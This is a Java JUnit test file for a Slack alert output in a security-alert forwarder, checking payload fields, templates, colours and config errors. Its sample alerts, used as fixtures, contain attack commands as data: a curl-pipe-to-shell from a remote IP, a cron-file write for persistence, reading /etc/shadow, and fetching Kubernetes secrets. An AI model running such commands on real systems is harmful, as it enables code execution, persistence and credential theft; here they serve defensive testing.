package dev.peregrine.sidekick.output.slack;

import static dev.peregrine.sidekick.testing.ConfiguredOutputs.bind;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.peregrine.sidekick.alert.Alert;
import dev.peregrine.sidekick.alert.Priority;
import dev.peregrine.sidekick.config.ConfigException;
import dev.peregrine.sidekick.delivery.ConfiguredOutput;
import dev.peregrine.sidekick.output.Chat;
import dev.peregrine.sidekick.output.DeliveryException;
import dev.peregrine.sidekick.output.Output;
import dev.peregrine.sidekick.output.OutputContext;
import dev.peregrine.sidekick.output.PayloadStyle;
import dev.peregrine.sidekick.testing.RecordingHttpServer;
import dev.peregrine.sidekick.testing.SampleAlerts;
import java.net.URI;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ObjectNode;

/** The Slack output against a real HTTP endpoint, payloads checked field by field. */
class SlackOutputTest {
    static final JsonMapper JSON = JsonMapper.builder().build();
    /** Peregrine's payloads; Falcosidekick's are the FalcosidekickPayloadTest's. */
    static final OutputContext CONTEXT =
            new OutputContext("slack", "peregrine.outputs.slack", PayloadStyle.PEREGRINE, Set.of());

    static final List<String> SAMPLES = SampleAlerts.LINES;

    final RecordingHttpServer slack = new RecordingHttpServer();

    @AfterEach
    void stop() {
        slack.close();
    }

    static Alert sample(int i) {
        return SampleAlerts.alert(i);
    }

    SlackConfig config(String outputFormat, String messageFormat) {
        return new SlackConfig(
                slack.uri(),
                "#security",
                "Peregrine",
                Chat.DEFAULT_ICON,
                "Peregrine",
                outputFormat,
                messageFormat,
                Duration.ofSeconds(5));
    }

    /** Sends one alert and returns the JSON Slack received. */
    JsonNode post(SlackConfig config, Alert alert) throws DeliveryException {
        int before = slack.requests().size();
        try (Output out = config.create(CONTEXT)) {
            out.send(alert);
        }
        List<RecordingHttpServer.Request> requests = slack.requests();
        assertThat(requests).hasSize(before + 1);
        RecordingHttpServer.Request r = requests.getLast();
        assertThat(r.method()).isEqualTo("POST");
        assertThat(r.path()).isEqualTo("/hook");
        assertThat(r.header("Content-Type")).isEqualTo("application/json");
        return JSON.readTree(r.body());
    }

    static ObjectNode expected(String json, int sample, boolean withText) {
        ObjectNode node = (ObjectNode) JSON.readTree(json);
        ObjectNode attachment = (ObjectNode) node.get("attachments").get(0);
        attachment.put("fallback", SampleAlerts.output(sample));
        if (withText) {
            attachment.put("text", SampleAlerts.output(sample));
        }
        return node;
    }

    @Test
    void allFormatPostsOutputLineAndFields() throws Exception {
        // Sample 2 has empty and null fields, numbers and strings past 36 characters.
        JsonNode body = post(config("all", null), sample(2));

        assertThat(body).isEqualTo(expected("""
                {
                  "username": "Peregrine",
                  "icon_url": "https://raw.githubusercontent.com/falcosecurity/falcosidekick/master/imgs/falcosidekick_color.png",
                  "channel": "#security",
                  "attachments": [{
                    "color": "#e20b0b",
                    "footer": "Peregrine",
                    "fields": [
                      {"title": "rule", "value": "Write below etc", "short": true},
                      {"title": "priority", "value": "Error", "short": true},
                      {"title": "source", "value": "syscall", "short": true},
                      {"title": "hostname", "value": "bastion-01", "short": true},
                      {"title": "tags", "value": "T1098, container, filesystem, host, maturity_sandbox, mitre_persistence", "short": true},
                      {"title": "container.id", "value": "host", "short": true},
                      {"title": "container.image.repository", "value": "", "short": true},
                      {"title": "container.image.tag", "value": "", "short": true},
                      {"title": "container.name", "value": "host", "short": true},
                      {"title": "evt.type", "value": "openat", "short": true},
                      {"title": "fd.name", "value": "/etc/cron.d/sysupdate", "short": true},
                      {"title": "proc.aname[2]", "value": "sh", "short": true},
                      {"title": "proc.aname[3]", "value": "sshd", "short": true},
                      {"title": "proc.aname[4]", "value": "sshd", "short": true},
                      {"title": "proc.cmdline", "value": "python3 -c open('/etc/cron.d/sysupdate','w').write(payload)", "short": false},
                      {"title": "proc.exepath", "value": "/usr/bin/python3.11", "short": true},
                      {"title": "proc.name", "value": "python3", "short": true},
                      {"title": "proc.pcmdline", "value": "sh -c curl -fsSL http://198.51.100.7/i.sh | sh", "short": false},
                      {"title": "proc.pname", "value": "sh", "short": true},
                      {"title": "user.name", "value": "root", "short": true},
                      {"title": "time", "value": "2025-11-20 10:02:11.734400921 +0000 UTC", "short": false}
                    ]
                  }]
                }
                """, 2, true));
    }

    @Test
    void fieldsFormatPostsFieldsWithoutOutputLine() throws Exception {
        JsonNode body = post(config("fields", null), sample(3));

        assertThat(body).isEqualTo(expected("""
                {
                  "username": "Peregrine",
                  "icon_url": "https://raw.githubusercontent.com/falcosecurity/falcosidekick/master/imgs/falcosidekick_color.png",
                  "channel": "#security",
                  "attachments": [{
                    "color": "#5bffb5",
                    "footer": "Peregrine",
                    "fields": [
                      {"title": "rule", "value": "Contact K8S API Server From Container", "short": true},
                      {"title": "priority", "value": "Notice", "short": true},
                      {"title": "source", "value": "syscall", "short": true},
                      {"title": "hostname", "value": "gke-prod-pool-1-8f3a2c1d-q7lm", "short": true},
                      {"title": "tags", "value": "T1565, container, k8s, maturity_stable, mitre_discovery, network", "short": true},
                      {"title": "container.id", "value": "9f1e4c2a7b30", "short": true},
                      {"title": "container.image.repository", "value": "ghcr.io/acme/payments-api", "short": true},
                      {"title": "container.image.tag", "value": "v2.4.1", "short": true},
                      {"title": "container.name", "value": "payments-api", "short": true},
                      {"title": "evt.type", "value": "connect", "short": true},
                      {"title": "fd.l4proto", "value": "tcp", "short": true},
                      {"title": "fd.name", "value": "10.52.3.17:48310->10.96.0.1:443", "short": true},
                      {"title": "fd.type", "value": "ipv4", "short": true},
                      {"title": "k8s.ns.name", "value": "payments", "short": true},
                      {"title": "k8s.pod.name", "value": "payments-api-5b7f9d9c8-4hzsw", "short": true},
                      {"title": "proc.cmdline", "value": "curl -sk https://kubernetes.default.svc/api/v1/namespaces/payments/secrets", "short": false},
                      {"title": "proc.exepath", "value": "/usr/bin/curl", "short": true},
                      {"title": "proc.name", "value": "curl", "short": true},
                      {"title": "proc.pname", "value": "sh", "short": true},
                      {"title": "user.name", "value": "app", "short": true},
                      {"title": "time", "value": "2025-11-20 11:45:09.00411883 +0000 UTC", "short": false}
                    ]
                  }]
                }
                """, 3, false));
    }

    @Test
    void textFormatPostsOutputLineOnlyAndOmitsBlankSettings() throws Exception {
        SlackConfig config =
                new SlackConfig(slack.uri(), null, "", " ", "Peregrine", "text", null, Duration.ofSeconds(5));

        JsonNode body = post(config, sample(0));

        assertThat(body).isEqualTo(expected("""
                {"attachments": [{"color": "#5bffb5"}]}
                """, 0, true));
    }

    @Test
    void messageFormatIsAPebbleTemplateOverEveryAlertField() throws Exception {
        String template = """
                {{ priority }} {{ rule }} on {{ hostname }} ({{ source }})
                tags: {{ tags | join(", ") }}
                {% for f in ["fd.name", "proc.cmdline", "user.uid", "no.such.field"] %}{{ f }}={{ output_fields[f] }} {% endfor %}
                at {{ time }} id {{ uuid }}
                {{ output }}""";
        Alert alert = sample(1);

        JsonNode body = post(config("all", template), alert);

        assertThat(body.get("text").stringValue())
                .isEqualTo(
                        "Warning Read sensitive file untrusted on ip-10-0-1-23.eu-west-1.compute.internal (syscall)\n"
                                + "tags: T1555, container, filesystem, host, maturity_stable, mitre_credential_access\n"
                                // Newlines stay as written; a missing field prints nothing.
                                + "fd.name=/etc/shadow proc.cmdline=cat /etc/shadow user.uid=0 no.such.field= \n"
                                + "at 2025-11-20T09:14:37.502981066Z id " + alert.uuid() + "\n"
                                + SampleAlerts.output(1));
        // The text comes on top of the usual attachment, as in Falcosidekick.
        assertThat(body.get("attachments").get(0).get("text").stringValue()).isEqualTo(SampleAlerts.output(1));
        assertThat(body.get("attachments").get(0).get("fields")).hasSize(22);
    }

    @Test
    void templateThatFailsOnAnAlertCostsTheTextNotTheAlert() throws Exception {
        JsonNode body = post(config("all", "{{ rule | abs }}"), sample(0));

        assertThat(body.has("text")).isFalse();
        assertThat(body.get("attachments").get(0).get("fallback").stringValue()).isEqualTo(SampleAlerts.output(0));
    }

    @Test
    void templateSyntaxErrorStopsStartupNamingKeyAndLine() {
        SlackConfig config = config("all", "{{ rule }}\n{% if priority == \"Critical\" %}\nunclosed");

        assertThatThrownBy(() -> config.create(CONTEXT))
                .isInstanceOfSatisfying(
                        ConfigException.class,
                        e -> assertThat(e.problems())
                                .singleElement()
                                .asString()
                                .startsWith("peregrine.outputs.slack.message-format: template error at line 3: "));
    }

    @Test
    void falcosidekickGoTemplateGetsAHint() {
        SlackConfig config = config("all", "Alert by {{ index .OutputFields \"user.name\" }}: {{ .Rule }}");

        assertThatThrownBy(() -> config.create(CONTEXT))
                .isInstanceOfSatisfying(
                        ConfigException.class,
                        e -> assertThat(e.problems())
                                .singleElement()
                                .asString()
                                .startsWith("peregrine.outputs.slack.message-format: template error at line 1: ")
                                .contains("looks like a Falcosidekick Go template: write {{ rule }} for {{ .Rule }}"));
    }

    @ParameterizedTest
    @CsvSource({
        "Emergency,     #e20b0b",
        "Alert,         #ff5400",
        "Critical,      #ff5400",
        "Error,         #e20b0b",
        "Warning,       #ffc700",
        "Notice,        #5bffb5",
        "Informational, #68c2ff",
        "Debug,         #ccfff2",
    })
    void colourFollowsPriorityAsInFalcosidekick(String priority, String colour) throws Exception {
        Alert a = sample(0);
        Alert alert = new Alert(
                a.uuid(),
                a.time(),
                a.rule(),
                Priority.parse(priority),
                a.source(),
                a.output(),
                a.outputFields(),
                a.tags(),
                a.hostname(),
                a.message(),
                a.origin());

        JsonNode body = post(config("text", null), alert);

        assertThat(body.get("attachments").get(0).get("color").stringValue()).isEqualTo(colour);
    }

    @Test
    void everySampleGetsItsPriorityColour() throws Exception {
        Map<String, String> colours = Map.of(
                "Critical",
                "#ff5400",
                "Error",
                "#e20b0b",
                "Warning",
                "#ffc700",
                "Notice",
                "#5bffb5",
                "Informational",
                "#68c2ff");
        for (int i = 0; i < SAMPLES.size(); i++) {
            JsonNode body = post(config("all", null), sample(i));
            String priority = JSON.readTree(SAMPLES.get(i)).get("priority").stringValue();
            assertThat(body.get("attachments").get(0).get("color").stringValue())
                    .as(priority)
                    .isEqualTo(colours.get(priority));
        }
    }

    @Test
    void timeDropsTrailingZerosLikeGo() {
        assertThat(SlackOutput.SLACK_TIME.format(Instant.parse("2025-11-20T10:02:11Z")))
                .isEqualTo("2025-11-20 10:02:11 +0000 UTC");
        assertThat(SlackOutput.SLACK_TIME.format(Instant.parse("2025-11-20T10:02:11.120Z")))
                .isEqualTo("2025-11-20 10:02:11.12 +0000 UTC");
    }

    @Test
    void slackRejectingThePayloadIsPermanentAndAnOutageIsRetryable() {
        try (Output out = config("all", null).create(CONTEXT)) {
            slack.answer(404); // Slack's "no_service": the webhook was removed
            assertThatThrownBy(() -> out.send(sample(0)))
                    .isInstanceOfSatisfying(
                            DeliveryException.class,
                            e -> assertThat(e.retryable()).isFalse());
            slack.answer(503);
            assertThatThrownBy(() -> out.send(sample(0)))
                    .isInstanceOfSatisfying(
                            DeliveryException.class,
                            e -> assertThat(e.retryable()).isTrue());
        }
    }

    @Test
    void bindsFromKebabKeysWithDefaults() {
        List<ConfiguredOutput> outputs = bind(Map.of(
                "peregrine.outputs.slack.type", "slack",
                "peregrine.outputs.slack.webhook-url", "https://hooks.slack.com/services/T0/B0/X",
                "peregrine.outputs.slack.message-format", "{{ rule }}"));

        assertThat(outputs)
                .singleElement()
                .extracting(ConfiguredOutput::config)
                .isEqualTo(new SlackConfig(
                        URI.create("https://hooks.slack.com/services/T0/B0/X"),
                        null,
                        null, // unset: Falcosidekick's or Peregrine's, by the payload style
                        Chat.DEFAULT_ICON,
                        null, // unset: Falcosidekick's or Peregrine's, by the payload style
                        "all",
                        "{{ rule }}",
                        Duration.ofSeconds(10)));
    }

    @Test
    void unknownOutputFormatIsRejectedNamingItsKey() {
        assertThatThrownBy(() -> bind(Map.of(
                        "peregrine.outputs.chat.type", "slack",
                        "peregrine.outputs.chat.webhook-url", "https://hooks.slack.com/services/T0/B0/X",
                        "peregrine.outputs.chat.output-format", "json")))
                .isInstanceOfSatisfying(
                        ConfigException.class,
                        e -> assertThat(e.problems())
                                .containsExactly(
                                        "peregrine.outputs.chat.output-format: must be one of all, text, fields"));
    }

    @Test
    void nonHttpWebhookUrlStopsStartup() {
        SlackConfig config = new SlackConfig(
                URI.create("hooks.slack.com/services/T0"),
                null,
                "Peregrine",
                Chat.DEFAULT_ICON,
                "Peregrine",
                "all",
                null,
                Duration.ofSeconds(5));

        assertThatThrownBy(() -> config.create(CONTEXT))
                .isInstanceOfSatisfying(
                        ConfigException.class,
                        e -> assertThat(e.problems())
                                .singleElement()
                                .asString()
                                .startsWith("peregrine.outputs.slack.webhook-url: must be an http or https URL"));
    }
}
